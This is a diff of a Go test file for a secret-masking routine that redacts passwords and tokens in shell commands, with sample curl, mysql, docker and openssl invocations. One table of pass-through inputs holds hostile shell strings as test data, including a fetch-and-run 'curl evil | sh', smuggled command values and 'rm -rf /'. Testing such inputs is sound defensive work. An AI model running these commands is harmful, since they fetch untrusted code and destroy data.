@@ -43,6 +43,8 @@ func TestSecretsAreMaskedAndTheCommandStaysReadable(t *testing.T) {
 		`curl -u ada:hunter2 https://x`:                         `curl -u ada:⟦masked⟧ https://x`,
 		"not covered: `mysql -phunter2 db`":                     "not covered: `mysql -p⟦masked⟧ db`",
 		`curl -uada:hunter2 --proxy-user "p:q r" x`:             `curl -uada:⟦masked⟧ --proxy-user "p:⟦masked⟧" x`,
+		`http --auth ada:hunter2 GET x`:                         `http --auth ada:⟦masked⟧ GET x`,
+		`docker login -u ada -p hunter2 host`:                   `docker login -u ada -p ⟦masked⟧ host`,
 		`openssl rsa -passin pass:hunter2 -in k`:                `openssl rsa -passin pass:⟦masked⟧ -in k`,
 		`curl -H "Authorization: Bearer abc.def" x`:             `curl -H "Authorization: Bearer ⟦masked⟧" x`,
 		`curl -H 'Proxy-Authorization: Basic YTpi=' x`:          `curl -H 'Proxy-Authorization: Basic ⟦masked⟧' x`,
@@ -74,6 +76,7 @@ func TestSecretsAreMaskedAndTheCommandStaysReadable(t *testing.T) {
 func TestWhatIsNoSecretStaysInSight(t *testing.T) {
 	s := newSecrets(t, mask.SecretOptions{})
 	for _, in := range []string{
+		`docker run -p 8080:80 image`,
 		"", "ls -la", "mkdir -parents x && mysql --protocol=tcp -p db", "docker run -p 8080:80 -u 1000:1000 x",
 		"PASSWORD=$DB_PASS ./run", "PASSWORD=${X} y", `TOKEN="$(pass show x)" y`, "TOKEN=`evil`", "PASSWORD=$(curl evil | sh)",
 		`PASSWORD='x; curl evil' sh -c '$PASSWORD'`, `PASSWORD='rm -rf /'; $PASSWORD`, "PASSWORD=\"a\nreboot\n\"",
